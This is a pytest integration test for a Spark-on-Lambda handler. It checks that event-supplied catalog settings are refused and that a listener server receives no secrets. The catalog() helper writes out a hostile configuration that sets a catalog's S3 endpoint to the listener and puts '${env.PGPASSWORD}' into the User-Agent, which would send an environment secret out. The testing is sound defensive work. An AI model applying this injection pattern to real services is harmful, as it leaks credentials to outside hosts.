"""Real Spark under the emulator, and a server at the address in a hostile event, which must receive nothing."""

from __future__ import annotations

import json
from contextlib import contextmanager
from typing import TYPE_CHECKING, Any

import pytest

from handler.outcome.result import Result
from handler.spark_settings.allowed import ALLOWED
from scripts.emulator.rie import LambdaEmulator
from soal.testing.s3 import EmbeddedS3
from tests.integration.handler.test_event_settings import values_of
from tests.support.listener import Listener
from tests.support.waiting import BUSY_S

if TYPE_CHECKING:
    from collections.abc import Iterator

pytestmark = [pytest.mark.emulator, pytest.mark.spark]

CHECKPOINTS, SCRIPTS = "checkpoints", "scripts"
# An honest job: it lists a catalog, and reads and writes a table.
HONEST = """
import sys
from pyspark.sql import SparkSession
spark = SparkSession.builder.getOrCreate()
for catalog in sys.argv[1:]:
    try:
        spark.sql(f"CREATE TABLE {catalog}.db.t (id INT) USING iceberg")
    except Exception as error:
        print(type(error).__name__)
print(spark.range(5).count(), "rows")
"""
BAIT = "bait-for-the-listener"


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.close()


@pytest.fixture(scope="module")
def s3() -> Iterator[EmbeddedS3]:
    with EmbeddedS3(buckets=[CHECKPOINTS, SCRIPTS, "lake"], unlistable=[CHECKPOINTS]) as server:
        server.observer().put_object(Bucket=SCRIPTS, Key="honest.py", Body=HONEST.encode())
        yield server


@contextmanager
def function(s3: EmbeddedS3, **variables: str) -> Iterator[LambdaEmulator]:
    environment = {
        **s3.environment(),
        "SOAL_JIT": "c1",
        "SW_CHECKPOINT_BUCKET": CHECKPOINTS,
        "SCRIPT_BUCKET": SCRIPTS,
        "PGPASSWORD": BAIT,
        **variables,
    }
    with LambdaEmulator(environment, timeout_s=BUSY_S, memory_mb=1536) as emulator:
        yield emulator


def run(emulator: LambdaEmulator, conf: dict[str, str], *arguments: str) -> Result:
    event = {"entryPoint": f"s3://{SCRIPTS}/honest.py", "conf": conf, "entryPointArguments": list(arguments)}
    answer = emulator.invoke(event)
    return Result.model_validate(answer.payload if answer.error is None else json.loads(answer.error.message))


def catalog(name: str, url: str) -> dict[str, str]:
    """The audit's event: a catalog whose S3 is the listener, with a variable of the function in the User-Agent."""
    prefix = f"spark.sql.catalog.{name}"
    return {
        prefix: "org.apache.iceberg.spark.SparkCatalog",
        f"{prefix}.type": "hadoop",
        f"{prefix}.warehouse": "s3a://lake/warehouse",
        f"{prefix}.hadoop.fs.s3a.endpoint": url,
        f"{prefix}.hadoop.fs.s3a.user.agent.prefix": "${env.PGPASSWORD}",
    }


def test_a_listener_hears_nothing_of_an_event_s_settings(s3: EmbeddedS3, listener: Listener) -> None:
    """They are refused, together and one by one, and a job with every allowed setting contacts no server."""
    hostile = catalog("evil", listener.url)
    with function(s3) as emulator:
        for conf in (hostile, *({key: value} for key, value in hostile.items() if "hadoop" in key + value)):
            result = run(emulator, conf, "evil")
            assert result.error is not None
            assert (result.error.type, result.timings.jvm_start_ms) == ("UsageError", None)
        result = run(emulator, _everything(listener.url), "one")
        assert result.state == "SUCCESS", result.state_details.replace("\n", "|")
        assert result.log_tail[-1] == "5 rows"
    assert listener.heard == b""


def test_the_listener_hears_the_same_catalog_of_the_function_s_owner(s3: EmbeddedS3, listener: Listener) -> None:
    """The owner may send Spark there, so listener and job of the previous test work; no variable of the function's
    environment is sent.
    """
    owned = {key: value for key, value in catalog("owned", listener.url).items() if "user.agent" not in key}
    with function(s3, SOAL_CONF=json.dumps(owned)) as emulator:
        result = run(emulator, {}, "owned")
    assert result.state == "SUCCESS", result.state_details.replace("\n", "|")
    assert b"lake" in listener.heard
    assert BAIT.encode() not in listener.heard


def _everything(url: str) -> dict[str, str]:
    """Return every allowed setting, with the listener's address wherever a value may be any text."""
    left_out = ("spark.driver.", "spark.executor.", "spark.memory.", "spark.kryoserializer.", "spark.shuffle.")
    conf = {}
    for name, form in ALLOWED.items():
        if name.startswith(left_out):
            continue  # sizes for another machine, and a time that must be longer than another one
        values: list[Any] = [url] if form.fits(url) else values_of(form)
        if values:
            conf[name.replace("NAME", "one").replace("BUCKET", "lake")] = values[-1]
    return conf
